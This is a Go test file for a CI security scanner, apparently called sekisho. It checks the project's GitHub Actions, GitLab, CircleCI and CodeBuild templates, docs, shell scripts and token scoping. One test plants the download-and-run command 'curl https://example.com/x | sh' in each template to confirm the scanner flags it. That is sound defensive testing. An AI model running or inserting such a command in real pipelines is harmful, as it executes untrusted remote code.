// SPDX-License-Identifier: Apache-2.0

package deploy

import (
	"encoding/json"
	"flag"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"
)

var update = flag.Bool("update", false, "write the script of comments into the template of GitLab again")

const (
	gitlabTemplate = root + "/deploy/gitlab/sekisho.gitlab-ci.yml"
	commentScript  = root + "/deploy/github-action/comment.sh"
)

func decode(t *testing.T, name string, v any) {
	t.Helper()
	if err := yaml.Unmarshal([]byte(read(t, name)), v); err != nil {
		t.Fatalf("%s: %v", name, err)
	}
}

// What we hand out passes our own rules, at the places where it is used.
func TestTemplatesHaveNoFindings(t *testing.T) {
	dir := t.TempDir()
	git(t, dir, "init", "-q")
	for from, to := range map[string]string{
		"deploy/github-action/action.yml":       ".github/actions/sekisho/action.yml",
		"deploy/github-action/install.sh":       ".github/actions/sekisho/install.sh",
		"deploy/github-action/scan.sh":          ".github/actions/sekisho/scan.sh",
		"deploy/github-action/comment.sh":       ".github/actions/sekisho/comment.sh",
		"deploy/github-action/sarif.sh":         ".github/actions/sekisho/sarif.sh",
		"deploy/gitlab/sekisho.gitlab-ci.yml":   ".gitlab-ci.yml",
		"deploy/circleci/config.yml":            ".circleci/config.yml",
		"deploy/codebuild/buildspec.yml":        "buildspec.yml",
		"deploy/Dockerfile":                     "Dockerfile",
		".pre-commit-hooks.yaml":                ".pre-commit-hooks.yaml",
		"test/deploy/testdata/pull-request.yml": ".github/workflows/pull-request.yml",
	} {
		write(t, dir, map[string]string{to: read(t, filepath.Join(root, from))})
	}
	status, out := run(t, dir, environment(t), program(t), "scan", "repo:.", "--offline", "-q", "--no-cache", "-f", "json", "--fail-on", "low")
	var report struct {
		Findings []struct {
			Rule     string
			Location struct {
				Path string
				Line int
			}
		}
	}
	if err := json.Unmarshal([]byte(out[:strings.LastIndex(out, "}")+1]), &report); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	for _, f := range report.Findings {
		t.Errorf("%s:%d: %s", f.Location.Path, f.Location.Line, f.Rule)
	}
	if status != 0 {
		t.Errorf("status %d", status)
	}
	// They were read: with something wrong in each, each is found.
	for name, line := range map[string][2]string{
		".github/actions/sekisho/action.yml": {`run: sh "$GITHUB_ACTION_PATH/scan.sh"`, "run: curl https://example.com/x | sh"},
		".github/workflows/pull-request.yml": {"    steps:\n", "    steps:\n      - run: curl https://example.com/x | sh\n"},
		".gitlab-ci.yml":                     {"apk add --no-cache curl\n", "curl https://example.com/x | sh\n"},
		".circleci/config.yml":               {"mkdir -p /tmp", "curl https://example.com/x | sh; mkdir -p /tmp"},
		"buildspec.yml":                      {"mkdir -p /tmp", "curl https://example.com/x | sh; mkdir -p /tmp"},
	} {
		text := read(t, filepath.Join(dir, name))
		bad := strings.Replace(text, line[0], line[1], 1)
		if bad == text {
			t.Errorf("%s has no %q", name, line[0])
		}
		write(t, dir, map[string]string{name: bad})
		status, out := run(t, dir, environment(t), program(t), "scan", "--files", name, "--offline", "-q", "--fail-on", "medium")
		if status != 1 || !strings.Contains(out, "download-and-run") {
			t.Errorf("%s is not judged: status %d\n%s", name, status, out)
		}
	}
}

// What the documents show is there: inputs of the action, variables of the
// template, hooks.
func TestDocuments(t *testing.T) {
	inputs := loadAction(t, root+"/deploy/github-action").Inputs
	variables := gitlabTemplateFile(t).Variables
	var hooks []hook
	decode(t, root+"/.pre-commit-hooks.yaml", &hooks)
	for _, name := range []string{"docs/ci.md", "docs/ci.ja.md", "test/deploy/testdata/pull-request.yml"} {
		text := read(t, filepath.Join(root, name))
		if strings.HasSuffix(name, ".yml") {
			text = "```yaml\n" + text + "```\n"
		}
		uses, blocks := 0, strings.Split(text, "```yaml\n")[1:]
		for _, b := range blocks {
			b, _, _ = strings.Cut(b, "```")
			var f struct {
				Variables map[string]string
				Repos     []struct{ Hooks []hook }
				Jobs      map[string]struct {
					Steps []struct {
						Uses string
						With map[string]string
					}
				}
			}
			if err := yaml.Unmarshal([]byte(b), &f); err != nil {
				t.Errorf("%s: %v in\n%s", name, err, b)
			}
			for _, j := range f.Jobs {
				for _, s := range j.Steps {
					if !strings.Contains(s.Uses, "deploy/github-action@") {
						continue
					}
					uses++
					for k := range s.With {
						if _, ok := inputs[k]; !ok {
							t.Errorf("%s: the action has no input %s", name, k)
						}
					}
				}
			}
			for k := range f.Variables {
				if _, ok := variables[k]; !ok {
					t.Errorf("%s: the template has no variable %s", name, k)
				}
			}
			for _, r := range f.Repos {
				for _, h := range r.Hooks {
					if !slices.ContainsFunc(hooks, func(o hook) bool { return o.ID == h.ID }) {
						t.Errorf("%s: there is no hook %s", name, h.ID)
					}
				}
			}
		}
		if uses == 0 {
			t.Errorf("%s shows no use of the action", name)
		}
		if strings.HasSuffix(name, ".md") {
			for k := range inputs {
				if !strings.Contains(text, "`"+k+"`") && !strings.Contains(text, "`"+k+":") && !strings.Contains(text, " "+k+":") {
					t.Errorf("%s does not name the input %s", name, k)
				}
			}
		}
	}
}

func TestScriptsPassShellCheck(t *testing.T) {
	need(t, "shellcheck")
	scripts, _ := filepath.Glob(root + "/deploy/github-action/*.sh")
	if len(scripts) < 4 {
		t.Fatalf("scripts: %v", scripts)
	}
	if status, out := run(t, ".", environment(t), "shellcheck", scripts...); status != 0 {
		t.Error(out)
	}
}

type gitlabFile struct {
	Variables map[string]string
	Jobs      map[string]gitlabJob `yaml:",inline"`
}

type gitlabJob struct {
	Extends      string
	Image, Stage string
	Variables    map[string]string
	BeforeScript []string `yaml:"before_script"`
	Script       []string
	Rules        []struct{ If, When string }
	Needs        []struct {
		Job       string
		Artifacts bool
	}
	Environment struct{ Name, Action string }
	Artifacts   struct {
		When    string
		Paths   []string
		Reports map[string]string
	}
}

func gitlabTemplateFile(t *testing.T) *gitlabFile {
	t.Helper()
	var f gitlabFile
	decode(t, gitlabTemplate, &f)
	return &f
}

// A template has no files beside it, so the script stands in it.
func TestTemplateHasTheScript(t *testing.T) {
	want := read(t, commentScript)
	if *update {
		text := read(t, gitlabTemplate)
		mark := "a template has no files.\n    - |\n"
		i := strings.Index(text, mark) + len(mark)
		var b strings.Builder
		for l := range strings.Lines(want) {
			if l != "\n" {
				b.WriteString("      ")
			}
			b.WriteString(l)
		}
		if err := os.WriteFile(gitlabTemplate, []byte(text[:i]+b.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if got := gitlabTemplateFile(t).Jobs["sekisho-note"].Script; len(got) != 1 || got[0] != want {
		t.Error("the script in the template of GitLab is not comment.sh: go test ./test/deploy -run Script -update")
	}
}

// job runs a job's scripts in one shell, as the runner does.
func (f *gitlabFile) job(t *testing.T, dir, name string, env ...string) (int, string) {
	t.Helper()
	j := f.Jobs[name]
	all := maps.Clone(f.Variables)
	before := j.BeforeScript
	if j.Extends != "" {
		up := f.Jobs[j.Extends]
		maps.Copy(all, up.Variables)
		before = append(slices.Clone(up.BeforeScript), before...)
	}
	maps.Copy(all, j.Variables)
	bin := t.TempDir()
	write(t, bin, map[string]string{"apk": "#!/bin/sh\n[ \"$1\" = add ]\n"})
	if err := os.Chmod(filepath.Join(bin, "apk"), 0o700); err != nil {
		t.Fatal(err)
	}
	vars := environment(t, "PATH="+bin+":"+os.Getenv("PATH"), "TMPDIR="+t.TempDir(), "GITLAB_CI=true", "CI_PROJECT_DIR="+dir)
	for _, k := range slices.Sorted(maps.Keys(all)) {
		vars = append(vars, k+"="+all[k])
	}
	script := filepath.Join(bin, "job.sh")
	write(t, bin, map[string]string{"job.sh": "set -e\n" + strings.Join(append(before, j.Script...), "\n")})
	need(t, "busybox") // the shell of Alpine
	return run(t, dir, append(vars, env...), "busybox", "sh", script)
}

func TestGitLab(t *testing.T) {
	t.Parallel()
	f := gitlabTemplateFile(t)
	release := newRelease(t, read(t, program(t)))
	base := []string{release.env[0], "SCAN_SOURCE=" + release.URL, "SCAN_VERSION=1.2.3", "SCAN_CHECKSUM=" + release.sum}
	for _, c := range []struct {
		name     string
		brings   map[string]string
		merge    bool
		more     []string
		status   int
		findings int // in the reports, which are of all
		note     string
	}{
		{"a new one", map[string]string{"compose.yaml": newCompose}, true, nil, 1, 2, "COMMENT_FINDINGS=1\nCOMMENT_DECISION=deny\n"},
		{"a known one", map[string]string{"notes.txt": "x\n"}, true, nil, 0, 1, "COMMENT_FINDINGS=0\nCOMMENT_DECISION=allow\n"},
		{"no gate", map[string]string{"compose.yaml": newCompose}, true, []string{"SCAN_FAIL_ON="}, 0, 2, "COMMENT_FINDINGS=1\nCOMMENT_DECISION=allow\n"},
		{"a branch", map[string]string{"compose.yaml": newCompose}, false, nil, 0, 2, "COMMENT_DECISION=incomplete\n"},
		{"settings", map[string]string{"compose.yaml": newCompose}, true, []string{"SEKISHO_SCANNERS=secret"}, 0, 0, "COMMENT_FINDINGS=0\nCOMMENT_DECISION=allow\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir, parted := project(t, c.brings)
			env := slices.Concat(base, c.more)
			if c.merge {
				env = append(env, "CI_MERGE_REQUEST_DIFF_BASE_SHA="+parted)
			}
			status, out := f.job(t, dir, "sekisho", env...)
			if status != c.status {
				t.Fatalf("status %d, want %d: %s", status, c.status, out)
			}
			j := f.Jobs["sekisho"]
			for _, name := range slices.Concat(j.Artifacts.Paths, slices.Collect(maps.Values(j.Artifacts.Reports))) {
				if _, err := os.Stat(filepath.Join(dir, name)); err != nil {
					t.Errorf("an artifact is missing: %v", err)
				}
			}
			var quality []struct {
				Description string `json:"description"`
				Check       string `json:"check_name"`
				Fingerprint string `json:"fingerprint"`
				Severity    string `json:"severity"`
				Location    struct {
					Path  string
					Lines struct{ Begin int }
				}
			}
			if err := json.Unmarshal([]byte(read(t, filepath.Join(dir, "gl-code-quality-report.json"))), &quality); err != nil {
				t.Fatal(err)
			}
			if len(quality) != c.findings {
				t.Errorf("%d issues of code quality, want %d", len(quality), c.findings)
			}
			for _, q := range quality {
				if q.Check != "privileged" || q.Severity != "critical" || q.Fingerprint == "" || q.Description == "" || q.Location.Lines.Begin != 4 || !strings.HasSuffix(q.Location.Path, "compose.yaml") {
					t.Errorf("an issue: %+v", q)
				}
			}
			if got := read(t, filepath.Join(dir, "sekisho.env")); got != c.note {
				t.Errorf("for the note: %q, want %q", got, c.note)
			}
		})
	}

	t.Run("another program", func(t *testing.T) {
		dir, _ := project(t, nil)
		status, out := f.job(t, dir, "sekisho", append(slices.Clone(base), "SCAN_CHECKSUM="+strings.Repeat("0", 64))...)
		if status == 0 || strings.Contains(out, "Verdict") {
			t.Errorf("status %d: %s", status, out)
		}
	})
	t.Run("the note", func(t *testing.T) {
		p, env := newPlatform(t, true)
		dir := t.TempDir()
		write(t, dir, map[string]string{"sekisho.md": "<!-- sekisho:repository:app -->\n# Report\n"})
		env = append(slices.DeleteFunc(env, func(s string) bool { return strings.HasPrefix(s, "COMMENT_") }), "SCAN_NOTE_TOKEN=s3cret")
		for i := range 2 {
			status, out := f.job(t, dir, "sekisho-note", append(slices.Clone(env), "COMMENT_FINDINGS=1", "COMMENT_DECISION=deny")...)
			if status != 0 || len(p.comments) != 1 || p.comments[0].Who != "project_1_bot" || !strings.HasPrefix(p.comments[0].Body, "<!-- sekisho:repository:app -->\n# Report") {
				t.Fatalf("run %d: status %d, %v: %s", i, status, p.comments, out)
			}
		}
	})
	t.Run("the token", func(t *testing.T) {
		for name, j := range f.Jobs {
			if j.Environment.Name != "" != (name == "sekisho-note") {
				t.Errorf("%s has the environment %q, whose scope the token has", name, j.Environment.Name)
			}
		}
		if before := f.Jobs[".sekisho"].BeforeScript; len(before) == 0 || before[0] != "unset SCAN_NOTE_TOKEN" {
			t.Errorf("the scan may see the token: %q", before)
		}
	})
}

// CircleCI and CodeBuild: the steps of a branch, and of the default branch.
func TestCircleCI(t *testing.T) {
	t.Parallel()
	var f struct {
		Jobs map[string]struct {
			Parameters  map[string]struct{ Default string }
			Environment map[string]string
			Steps       []yaml.Node
		}
	}
	decode(t, root+"/deploy/circleci/config.yml", &f)
	release := newRelease(t, read(t, program(t)))
	job := f.Jobs["sekisho"]
	steps := func(t *testing.T, branch string, files map[string]string) (int, string) {
		dir, _ := project(t, files)
		env := environment(t, release.env[0], "SCAN_SOURCE="+release.URL, "CIRCLE_BRANCH="+branch)
		values := map[string]string{"version": "1.2.3", "checksum": release.sum}
		for name, p := range job.Parameters {
			if values[name] == "" {
				values[name] = p.Default
			}
		}
		for k, v := range job.Environment {
			name := strings.Trim(strings.TrimPrefix(strings.Trim(v, "<> "), "parameters."), " ")
			if values[name] == "" {
				t.Fatalf("%s is %q, which no parameter is", k, v)
			}
			env = append(env, k+"="+values[name])
		}
		return inShell(t, dir, "bash", env, commandsOf(t, job.Steps))
	}
	gates(t, func(t *testing.T, change bool, files map[string]string) (int, string) {
		return steps(t, map[bool]string{true: "change", false: "main"}[change], files)
	})
}

func TestCodeBuild(t *testing.T) {
	t.Parallel()
	var f struct {
		Env    struct{ Variables map[string]string }
		Phases map[string]struct{ Commands []string }
	}
	decode(t, root+"/deploy/codebuild/buildspec.yml", &f)
	release := newRelease(t, read(t, program(t)))
	gates(t, func(t *testing.T, change bool, files map[string]string) (int, string) {
		dir, _ := project(t, files)
		env := environment(t)
		for k, v := range f.Env.Variables {
			env = append(env, k+"="+v)
		}
		env = append(env, release.env[0], "SCAN_SOURCE="+release.URL, "SCAN_CHECKSUM="+release.sum)
		if change {
			env = append(env, "CODEBUILD_WEBHOOK_EVENT=PULL_REQUEST_UPDATED", "CODEBUILD_WEBHOOK_BASE_REF=refs/heads/main")
		}
		return inShell(t, dir, "bash", env, slices.Concat(f.Phases["install"].Commands, f.Phases["build"].Commands))
	})
}

func commandsOf(t *testing.T, steps []yaml.Node) (out []string) {
	t.Helper()
	for _, n := range steps {
		var s struct {
			Run struct{ Name, Command string }
		}
		if n.Kind == yaml.MappingNode {
			if err := n.Decode(&s); err != nil {
				t.Fatal(err)
			}
		}
		if s.Run.Command != "" {
			out = append(out, s.Run.Command)
		}
	}
	return out
}

// inShell runs each command in a shell of its own, with the paths of the
// machine moved into a directory of the test.
func inShell(t *testing.T, dir, shell string, env, commands []string) (status int, log string) {
	t.Helper()
	need(t, shell)
	place := t.TempDir()
	for i, c := range commands {
		name := filepath.Join(place, fmt.Sprintf("command%d", i))
		write(t, place, map[string]string{filepath.Base(name): strings.ReplaceAll(c, "/tmp/", place+"/")})
		one, out := run(t, dir, env, shell, "-e", "-o", "pipefail", name)
		log += out
		if one != 0 {
			return one, log
		}
	}
	for _, report := range []string{"sekisho.json", "sekisho.html", "junit.xml"} {
		if found, _ := filepath.Glob(filepath.Join(place, "*", "reports", report)); len(found) != 1 {
			t.Errorf("no report %s", report)
		}
	}
	return 0, log
}

// gates holds a platform to what all share: a change fails on what it brings,
// and passes beside what was there; the default branch is reported on.
func gates(t *testing.T, run func(t *testing.T, change bool, files map[string]string) (int, string)) {
	t.Helper()
	for _, c := range []struct {
		name   string
		change bool
		brings map[string]string
		status int
		want   string
	}{
		{"a new one", true, map[string]string{"compose.yaml": newCompose}, 1, "denied: new: 1 high"},
		{"a known one", true, map[string]string{"notes.txt": "x\n"}, 0, "0 of 1 findings are of this change"},
		{"the default branch", false, map[string]string{"compose.yaml": newCompose}, 0, "high 2"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if status, out := run(t, c.change, c.brings); status != c.status || !strings.Contains(out, c.want) {
				t.Errorf("status %d, want %d and %q:\n%s", status, c.status, c.want, out)
			}
		})
	}
}
